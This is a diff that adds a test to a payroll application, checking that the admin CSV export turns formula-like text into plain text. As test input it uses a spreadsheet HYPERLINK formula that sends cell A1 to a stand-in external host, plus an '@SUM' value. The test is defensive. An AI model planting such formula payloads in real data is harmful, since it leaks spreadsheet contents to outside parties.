@@ -223,3 +223,20 @@ def test_approving_a_week_again_says_so_on_the_payroll_not_on_an_error_page(clie
     assert again.status_code == 303
     page = client.get(again.headers["Location"]).get_data(as_text=True)
     assert "1 of the ticked timesheets was already approved" in page and "line:" not in page
+
+
+def test_the_payroll_csv_makes_formula_text_plain_text_whatever_the_column_type(client, session):
+    """A trainer's name, a project's slug or an adjustment's reason starting with = or @ reaches the
+    payroll CSV, which people open in a spreadsheet: every such text cell starts with an apostrophe
+    (pandas types text columns as ``str`` since version 3, not ``object``)."""
+    admin, trainer, project = _setup(session)
+    trainer.name = '=HYPERLINK("https://x.example/?"&A1,"pay")'
+    session.commit()
+    _work(session, trainer, project, 600)
+    pay.adjust(session, trainer.id, project.id, "1.00", "@SUM(1+1) bonus", admin.id)
+    login(client, admin.email, PASSWORD)
+    week = pay.week_label(pay.week_of(utcnow()))
+    rows = list(csv.DictReader(io.StringIO(client.get(f"/admin/payroll.csv?week={week}").get_data(as_text=True))))
+    assert rows[0]["trainer_name"] == "'" + trainer.name
+    assert all(not str(v).startswith(("=", "+", "@")) for row in rows for v in row.values())
+    assert rows[0]["amount"] == "6.00"  # numbers stay numbers
